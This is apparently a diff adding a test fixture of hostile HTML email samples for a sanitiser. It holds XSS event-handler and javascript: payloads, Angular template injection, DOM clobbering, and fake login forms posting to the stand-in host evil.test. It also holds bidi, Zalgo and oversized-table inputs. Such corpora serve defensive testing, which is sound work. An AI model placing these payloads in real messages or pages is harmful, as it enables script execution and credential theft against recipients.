@@ -1,0 +1,46 @@
+import type { HostileMails } from './hostile-mail.js';
+
+const evil = 'https://evil.test';
+const payload = '<img src=x onerror=alert(1)>';
+
+/** Forms, names and attributes that act on the page around the mail. */
+export const pages: HostileMails = {
+  'form that sends itself': `<form action="${evil}/form" id=f><input name=a value=b><input type=image src="${evil}/i.gif"></form>`,
+  'form around the page': `<form action="${evil}/form2"><input type=password name=password placeholder="Password"><button autofocus onfocus=alert(1)>Sign in</button>`,
+  'button of another form': `<button form=login formaction="${evil}/fa" formmethod=get onclick=alert(1)>x</button>`,
+  'input with formaction': `<form id=f></form><input type=submit form=f formaction="javascript:alert(1)" value=x>`,
+  'isindex prompt': `<isindex prompt="Password" action="${evil}/isindex">${payload}`,
+  'output, meter and progress': `<output onforminput=alert(1) onclick=alert(1)>x</output><meter onclick=alert(1)></meter><progress onclick=alert(1)></progress>`,
+  'label that clicks for another': `<label for=delete onclick=alert(1)>Read more</label>`,
+  'dialog that is open': `<dialog open onclose=alert(1) oncancel=alert(1) onclick=alert(1)>x</dialog>`,
+  'details with a name': `<details name=x open ontoggle=alert(1)>x</details>`,
+  'popover of the page': `<button popovertarget=menu popovertargetaction=show onclick=alert(1)>x</button>`,
+  'command for an element': `<button commandfor=menu command=show-modal onclick=alert(1)>x</button>`,
+  'interest for an element': `<a href="https://example.com/" interestfor=x onfocus=alert(1)>x</a>`,
+  'editable text': '<div contenteditable=true oninput=alert(1) onclick=alert(1)>x</div>',
+  'access key': '<a accesskey=x href="javascript:alert(1)" onclick=alert(1)>x</a>',
+  'custom element': `<x-login is="x-y" onclick=alert(1)>x</x-login><p is="app-root" slot=main onclick=alert(1)>y</p>`,
+  'clobbering of document': `<img name=cookie><img name=body><form name=getElementById><input name=attributes></form>${payload}`,
+  'clobbering of globals': `<a id=config></a><a id=config name=url href="${evil}/config">x</a><iframe name=self srcdoc="<script>alert(1)</script>"></iframe>`,
+  'clobbering of a form': `<form id=x><input id=attributes><input name=nodeName><input name=parentNode onfocus=alert(1) autofocus></form>`,
+  'clobbering of alert': `<a id=location href="javascript:alert(1)">x</a><img name=alert id=alert>${payload}`,
+  'id of the page': `<div id=app></div><div id=root onclick=alert(1)></div><script id=__NEXT_DATA__ type=application/json>{}</script>${payload}`,
+  'classes of the page': `<div class="modal fixed inset-0 btn-delete" onclick=alert(1)>x</div>`,
+  'data attributes of frameworks': `<div data-toggle=tooltip data-html=true title="<img src=x onerror=alert(1)>" data-bind="html:x" onclick=alert(1)>x</div>`,
+  'attributes of htmx': `<div hx-get="${evil}/htmx" hx-trigger=load hx-on:click="alert(1)" onclick=alert(1)>x</div>`,
+  'attributes of Alpine and Vue': `<div x-data x-init="alert(1)" @click="alert(1)" v-html="x" :style="x" onclick=alert(1)>x</div>`,
+  'attributes of Angular': `<div ng-app ng-csp ng-click="$event.view.alert(1)" (click)="alert(1)" [innerHTML]="x" onclick=alert(1)>{{constructor.constructor('alert(1)')()}}</div>`,
+  'gadget in a title': `<p title="&lt;img src=x onerror=alert(1)&gt;" onmouseover="this.innerHTML=this.title">x</p>`,
+  'gadget in an alt text': `<img alt="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" src=x onerror="this.outerHTML=this.alt">`,
+  'aria that lies': `<div role=alert aria-live=assertive aria-labelledby=secret onclick=alert(1)>x</div>`,
+  'microdata and links of items': `<div itemscope itemid="${evil}/item" itemtype="${evil}/type"><link itemprop=url href="${evil}/prop" rel=stylesheet></div>`,
+  nonce: `<div nonce=abc><script nonce=abc>alert(1)</script></div>`,
+  'portal to the opener': `<a href="https://example.com/" target=opener rel=opener onclick="alert(1)">x</a>`,
+  'elementtiming and parts': `<p elementtiming=x part=y exportparts=z anchor=a onclick=alert(1)>x</p>`,
+  'writing suggestions and virtual keyboard': `<p writingsuggestions inputmode=text enterkeyhint=send virtualkeyboardpolicy=manual onclick=alert(1)>x</p>`,
+  'text of another direction': `\u202e<p dir=rtl onclick=alert(1)>x</p>\u2066<bdo dir=rtl onclick=alert(1)>y</bdo>`,
+  'text of many marks': `${'Z\u0351\u036b\u0343'.repeat(500)}${payload}`,
+  'counter that never ends': `<ol start=99999999999 reversed><li value=-99999999999 onclick=alert(1)>x</ol>`,
+  'table of enormous spans': `<table><tr><td colspan=999999999 rowspan=999999999 onclick=alert(1)>x</table>`,
+  'table of enormous size': `<table width=99999999 height=99999999 border=9999999 cellpadding=99999999 onclick=alert(1)><tr><td>x</table>`,
+};
